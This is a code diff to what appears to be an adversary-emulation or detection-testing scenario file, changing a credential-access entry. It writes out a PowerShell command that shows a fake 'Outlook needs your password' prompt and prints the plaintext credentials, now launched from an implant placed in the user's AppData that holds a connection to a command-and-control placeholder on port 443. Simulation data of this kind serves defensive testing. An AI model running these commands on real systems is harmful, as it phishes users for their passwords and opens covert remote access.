@@ -164,9 +164,26 @@ export const credentialAccessC = [
         ],
         { shell: "ps" },
       ),
-      v("get-credential", [
-        "powershell.exe -ep bypass -c \"$c = Get-Credential -Message 'Outlook needs your password'; $c.GetNetworkCredential() | fl\"",
-      ]),
+      // The prompt must appear on the user's desktop: the implant in their session starts it and reads the
+      // answer from standard output.
+      v(
+        "get-credential",
+        [
+          {
+            cmd: "{{appdata}}\\{{name}}\\{{name}}.exe",
+            as: "imp",
+            parent: "@explorer",
+            net: [["{{c2}}", 443]],
+            keep: true,
+          },
+          {
+            cmd: "powershell.exe -c \"$c = Get-Credential -Message 'Outlook needs your password'; $c.GetNetworkCredential() | fl\"",
+            parent: "imp",
+            loads: ["C:\\Windows\\System32\\credui.dll"],
+          },
+        ],
+        { shell: "none" },
+      ),
     ],
   ),
   t(
